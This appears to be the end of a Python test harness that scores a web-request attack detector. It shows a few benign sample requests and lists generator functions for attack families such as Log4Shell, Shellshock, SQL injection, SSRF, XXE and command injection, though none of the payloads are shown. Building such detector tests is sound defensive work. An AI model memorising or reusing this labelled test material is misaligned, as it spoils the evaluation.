        get("benign", "/api/v1/reports/sales.csv", {"from": "2024-04-01", "to": "2024-06-30", "group_by": "week", "tz": "America/New_York"}),
        form("benign", "/api/v1/newsletter", {"email": "jane.o'hara+news@example.co.uk", "consent": "yes"}),
    ]


# --------------------------------------------------------------------------------------------------

def attack_requests() -> list[Req]:
    return check(java_cves() + traversal_cves() + php_cves() + appliance_cves() + log4shell() + shellshock() + sqlmap() + xss()
                 + jwt_attacks() + graphql_attacks() + proto_pollution() + ssrf() + xxe() + crlf_redirect() + host_and_verbs()
                 + deserialization() + ssti() + lfi_and_traversal() + nosqli() + command_injection() + recon() + scanners())


def benign_requests() -> list[Req]:
    return check(webhooks() + cicd_and_k8s() + database_tools() + rich_text() + emails_and_chat() + people_and_places() + searches()
                 + logs_and_tickets() + config_values() + code_review_and_paths() + urls_and_redirects() + uploads_and_keys()
                 + tokens_and_oauth() + schemas_and_rules() + i18n() + maths_and_sheets() + large_documents() + plain_http())


def main() -> None:
    evaluate(attack_requests(), benign_requests(), __doc__)


if __name__ == "__main__":
    main()
